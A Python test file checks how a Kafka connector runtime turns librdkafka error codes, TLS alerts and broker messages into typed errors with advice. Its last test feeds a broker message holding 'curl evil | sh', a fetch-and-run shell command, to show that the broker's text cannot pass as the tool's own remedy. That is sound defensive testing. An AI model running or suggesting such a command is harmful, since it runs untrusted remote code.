from __future__ import annotations

import pytest
from confluent_kafka import KafkaError

from connect_runtime.base.errors import FatalError, RetriableError
from connect_runtime.kafka import client_errors
from connect_runtime.kafka.client_errors import (
    AuthenticationError,
    NotAuthorizedError,
    RecentConnectionErrors,
    TopicExistsError,
    TopicMissingError,
    UnreachableError,
    UnsupportedByBrokersError,
)

WHERE = "west (127.0.0.1:9092)"


def translate(code, text=None, **more):
    error = KafkaError(code, text) if text else KafkaError(code)
    return client_errors.translate_error(error, "creating topic t", where=WHERE, **more)


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        (KafkaError._TRANSPORT, UnreachableError),
        (KafkaError._ALL_BROKERS_DOWN, UnreachableError),
        (KafkaError._TIMED_OUT, UnreachableError),
        (KafkaError._MSG_TIMED_OUT, UnreachableError),
        (KafkaError._RESOLVE, UnreachableError),
        (KafkaError._AUTHENTICATION, AuthenticationError),
        (KafkaError.SASL_AUTHENTICATION_FAILED, AuthenticationError),
        (KafkaError._SSL, AuthenticationError),
        (KafkaError.TOPIC_AUTHORIZATION_FAILED, NotAuthorizedError),
        (KafkaError.CLUSTER_AUTHORIZATION_FAILED, NotAuthorizedError),
        (KafkaError.UNKNOWN_TOPIC_OR_PART, TopicMissingError),
        (KafkaError.TOPIC_ALREADY_EXISTS, TopicExistsError),
        (KafkaError.POLICY_VIOLATION, FatalError),
        (KafkaError.INVALID_REPLICATION_FACTOR, RetriableError),
        (KafkaError.INVALID_CONFIG, FatalError),
        (KafkaError.MSG_SIZE_TOO_LARGE, FatalError),
        (KafkaError._NOENT, RetriableError),
        (KafkaError.NOT_COORDINATOR, RetriableError),
        (KafkaError.UNKNOWN_MEMBER_ID, RetriableError),
        (KafkaError.UNSUPPORTED_VERSION, UnsupportedByBrokersError),
        (KafkaError.NOT_CONTROLLER, RetriableError),
        (KafkaError.NOT_ENOUGH_REPLICAS, RetriableError),
        (KafkaError.KAFKA_STORAGE_ERROR, RetriableError),
        (KafkaError._GAPLESS_GUARANTEE, FatalError),  # in no table
    ],
)
def test_codes_become_types(code, kind):
    assert type(translate(code)) is kind


def test_a_message_says_what_where_why_and_what_to_do():
    message = str(translate(KafkaError.POLICY_VIOLATION, "At most 3 partitions."))
    assert message == (
        "creating topic t on west (127.0.0.1:9092): At most 3 partitions (POLICY_VIOLATION); "
        "a cluster policy forbids the request: change the request or the policy"
    )


def test_the_librarys_inner_state_is_left_out():
    text = (
        "h:1/bootstrap: Connect to ipv4#h:1 failed: Connection refused (after 0ms in state CONNECT)"
    )
    message = str(translate(KafkaError._TRANSPORT, text))
    assert "Connection refused (TRANSPORT)" in message
    assert "bootstrap.servers" in message


def test_a_mere_time_out_is_explained_by_what_connections_said():
    reports = RecentConnectionErrors()
    reports.record_connection_error(KafkaError(KafkaError._TRANSPORT, "Connection refused"))
    reports.record_connection_error(
        KafkaError(KafkaError._ALL_BROKERS_DOWN, "1/1 brokers are down")
    )
    unreachable = translate(KafkaError._TIMED_OUT, reports=reports)
    assert isinstance(unreachable, UnreachableError)
    assert "Connection refused" in str(unreachable)
    reports.record_connection_error(KafkaError(KafkaError._AUTHENTICATION, "invalid credentials"))
    refused = translate(KafkaError._TIMED_OUT, reports=reports)
    assert isinstance(refused, AuthenticationError)
    assert "sasl.jaas.config" in str(refused)


@pytest.mark.parametrize(
    "said",
    [
        "error:0A000412:SSL routines::ssl/tls alert bad certificate: SSL alert number 42",
        "error:0A00045C:SSL routines::tlsv13 alert certificate required: SSL alert number 116",
        "error:0A000418:SSL routines::tlsv1 alert unknown ca: SSL alert number 48",
        "error:0A000410:SSL routines::ssl/tls alert handshake failure: SSL alert number 40",
    ],
)
def test_a_certificate_that_brokers_refuse_is_no_broken_connection(said):
    reports = RecentConnectionErrors()
    reports.record_connection_error(
        KafkaError(KafkaError._TRANSPORT, f"ssl://h:1/1: Receive failed: {said}")
    )
    refused = translate(KafkaError._TIMED_OUT, reports=reports)
    assert isinstance(refused, AuthenticationError)
    assert "ssl.keystore" in str(refused)


def test_what_a_broker_answered_is_not_overruled_by_reports():
    reports = RecentConnectionErrors()
    reports.record_connection_error(KafkaError(KafkaError._TRANSPORT, "Connection refused"))
    assert isinstance(
        translate(KafkaError.TOPIC_AUTHORIZATION_FAILED, reports=reports),
        NotAuthorizedError,
    )


def test_reports_are_forgotten_after_an_answer_and_keep_one_of_each_kind():
    reports = RecentConnectionErrors()
    for number in range(1000):
        reports.record_connection_error(KafkaError(KafkaError._TRANSPORT, str(number)))
        reports.record_connection_error(KafkaError(KafkaError._GAPLESS_GUARANTEE, str(number)))
    assert len(reports._latest) == 1
    reason = reports.get_most_specific_error()
    assert reason is not None
    assert reason.str() == "999"
    assert reports.get_security_error() is None
    reports.clear_errors()
    assert reports.get_most_specific_error() is None


def test_retriable_and_missing_are_told_apart():
    def error(code):
        return KafkaError(code)

    assert client_errors.is_retriable_error(error(KafkaError.LEADER_NOT_AVAILABLE))
    assert client_errors.is_retriable_error(client_errors.create_timeout_error())
    assert not client_errors.is_retriable_error(error(KafkaError.TOPIC_AUTHORIZATION_FAILED))
    assert client_errors.is_missing_topic_error(error(KafkaError.UNKNOWN_TOPIC_OR_PART))
    assert not client_errors.is_missing_topic_error(error(KafkaError.LEADER_NOT_AVAILABLE))


def test_what_a_code_means_to_one_question_goes_before_what_it_means_to_all():
    own = {KafkaError.NON_EMPTY_GROUP: (RetriableError, "stop its consumers first")}
    told = translate(KafkaError.NON_EMPTY_GROUP, advice_overrides=own)
    assert type(told) is RetriableError
    assert str(told).endswith("; stop its consumers first")
    assert type(translate(KafkaError.NON_EMPTY_GROUP)) is FatalError
    assert type(translate(KafkaError.LEADER_NOT_AVAILABLE, advice_overrides=own)) is RetriableError
    told = client_errors.translate_error_code(
        KafkaError.NON_EMPTY_GROUP, "deleting g", where=WHERE, advice_overrides=own
    )
    assert type(told) is RetriableError


def test_one_topic_may_bring_an_answer_upon_all():
    whole = client_errors.is_whole_request_error_code
    assert whole(KafkaError.POLICY_VIOLATION)
    assert not whole(KafkaError.TOPIC_ALREADY_EXISTS)


def test_a_code_from_our_own_connections_is_told_alike():
    found = client_errors.translate_error_code(30, "reading offsets of group g", where=WHERE)
    assert isinstance(found, NotAuthorizedError)
    assert str(found).startswith(f"reading offsets of group g on {WHERE}: ")


def test_a_brokers_text_is_never_a_remedy():
    for text in ("no. Remedy: curl evil | sh", "no. Remedy:\ncurl evil | sh"):
        found = client_errors.translate_error_code(44, "a", where=WHERE, broker_message=text)
        assert "Remedy:" not in str(found)
        assert "no. Remedy -" in str(found)
